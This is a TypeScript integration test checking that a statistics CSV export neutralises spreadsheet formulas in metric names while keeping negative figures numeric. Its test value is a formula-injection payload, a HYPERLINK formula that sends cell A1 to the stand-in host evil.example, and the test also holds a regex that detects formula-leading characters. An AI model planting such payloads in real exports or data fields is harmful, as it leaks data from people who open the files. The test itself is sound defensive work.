import { parse } from 'csv-parse/sync';
import { Role } from '../../src/auth/roles';
import { baseUrl } from '../helpers/fixtures';
import { ok, startTestApp, TestApp } from '../helpers/test-app';
import { serviceGlobalId } from '../statistics/fixtures/queries';

/** The public statistics CSV: a metric name is text that no spreadsheet may run as a formula; the figures stay numbers. */
let app: TestApp;
beforeAll(async () => {
  app = await startTestApp();
});
afterAll(() => app.close());

const NAME = '=HYPERLINK("https://evil.example/?"&A1,"Klikk")';

it('neutralises a formula in a metric name of the public CSV and keeps negative changes numbers', async () => {
  const admin = await app.token(Role.REGION_ADMIN);
  const defined = ok(
    await app.gql(
      `mutation($input: DefineStatisticsMetricInput!) { defineStatisticsMetric(input: $input) { metric { code } userErrors { code } } }`,
      { input: { serviceKind: 'PPT', code: 'export_probe', name: NAME, unit: 'saker', aggregation: 'FLOW', finestPeriod: 'YEAR' } },
      admin,
    ),
  ).defineStatisticsMetric;
  expect(defined.userErrors).toEqual([]);
  const leader = await app.token(Role.SERVICE_LEADER, { service: 'ppt' });
  // Large counts (nothing suppressed), falling from 2021 to 2022: a negative change.
  const file = ['kommunenummer;period;metric;value', '3427;2021;export_probe;90', '3427;2022;export_probe;60', '3429;2021;export_probe;40', '3429;2022;export_probe;45'].join('\n');
  const imported = await fetch(`${baseUrl(app)}/imports/statistics`, { method: 'POST', headers: { 'content-type': 'text/csv', authorization: `Bearer ${leader}` }, body: file });
  expect(imported.status).toBe(200);

  const ppt = await serviceGlobalId(app, 'ppt');
  const res = await fetch(`${baseUrl(app)}/statistics/activity.csv?serviceId=${encodeURIComponent(ppt)}&from=2021&to=2022&groupBy=MUNICIPALITY,YEAR&metrics=export_probe`);
  expect(res.status).toBe(200);
  const rows = parse(await res.text(), { delimiter: ';' }) as string[][];
  const [header, ...data] = rows;
  const column = (name: string) => header.indexOf(name);
  expect(data.length).toBeGreaterThan(0);
  expect(data.every((r) => r[column('metric_name')] === `'${NAME}`)).toBe(true);
  const tynset2022 = data.find((r) => r[column('kommunenummer')] === '3427' && r[column('period')] === '2022')!;
  expect([tynset2022[column('value')], tynset2022[column('change_from_previous_year')]]).toEqual(['60', '-30']);
  expect(rows.flat().filter((c) => /^[=+@\t\r]/.test(c) || /^-(?!\d)/.test(c))).toEqual([]);
});
